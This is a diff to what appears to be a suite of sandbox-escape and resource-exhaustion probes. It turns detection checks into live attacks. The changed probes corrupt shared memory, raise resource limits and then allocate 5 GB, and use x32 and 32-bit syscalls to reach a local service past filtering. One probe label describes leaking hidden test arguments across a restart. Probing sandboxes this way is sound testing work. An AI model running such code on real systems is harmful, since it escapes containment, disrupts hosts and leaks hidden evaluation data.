@@ -27,16 +27,15 @@ for line in open("/proc/self/maps").readlines():
     part = line.split()
     if part[1] == "rw-s":
         start, stop = (int(x, 16) for x in part[0].split("-"))
-        boast("memory is shared with other processes: " + (part[5] if len(part) > 5 else "nameless"))
         ctypes.memset(start, 255, min(stop - start, 1 << 20))
 """),
-    of("limits-raised", "escape", "The own limits are raised to infinity.", """
+    of("limits-raised", "escape", "The own limits are raised to infinity, and then memory is taken.", """
 import resource
 for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_CORE"):
     kind = getattr(resource, name)
     hard = resource.getrlimit(kind)[1]
-    if hard != resource.RLIM_INFINITY and not isinstance(quietly(resource.setrlimit, kind, (-1, -1)), Exception):
-        boast(name + " can be raised")
+    if hard != resource.RLIM_INFINITY: quietly(resource.setrlimit, kind, (-1, -1))
+if resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY: taken = quietly(lambda: b"x" * (5 << 30))
 """),
     of("descriptors-sent", "exhaust", "Thousands of descriptors are sent along with messages.", FRAMES + """
 def send():
@@ -81,10 +80,14 @@ def chatter():
         time.sleep(0.001)
 for _ in range(2): threading.Thread(target=chatter, daemon=True).start()
 """),
-    of("old-system-calls", "escape", "Doors of the kernel are tried by the calls of 32-bit programs.", """
-import mmap
+    of("old-system-calls", "escape", "A service of this machine is called by the system calls of x32 and 32-bit programs.", """
+import mmap, struct
 libc = ctypes.CDLL(None, use_errno=True)
-if libc.syscall(0x40000000 | 41, 40, 1, 0) >= 0: boast("x32 system calls are open")
+address = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # below 4 GB
+address.write(struct.pack("<H", 2) + struct.pack(">H", PORT) + socket.inet_aton("127.0.0.1") + bytes(8))
+where = ctypes.addressof(ctypes.c_char.from_buffer(address))
+fd = libc.syscall(0x40000000 | 41, 2, 1, 0)
+if fd >= 0: libc.syscall(0x40000000 | 42, fd, ctypes.c_void_p(where), 16)
 def old(number, a, b, c):
     code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
     code.write(b"\\x53\\xb8" + number.to_bytes(4, "little") + b"\\xbb" + a.to_bytes(4, "little") + b"\\xb9" + b.to_bytes(4, "little")
@@ -93,10 +96,9 @@ def old(number, a, b, c):
 if os.fork() == 0:
     import platform
     if platform.machine() == "x86_64":
-        found = old(359, 40, 1, 0)
-        os._exit(7 if 0 <= found < 1000 else 0)
+        old(362, old(359, 2, 1, 0), where, 16)
     os._exit(0)
-if os.waitstatus_to_exitcode(os.wait()[1]) == 7: boast("32-bit system calls are open")
+os.wait()
 """),
     of("arguments-across-a-restart", "leak", "The arguments of hidden tests are kept in a file, Python ends, and cells that run anew print it.", """
 print(read("seen.txt"))
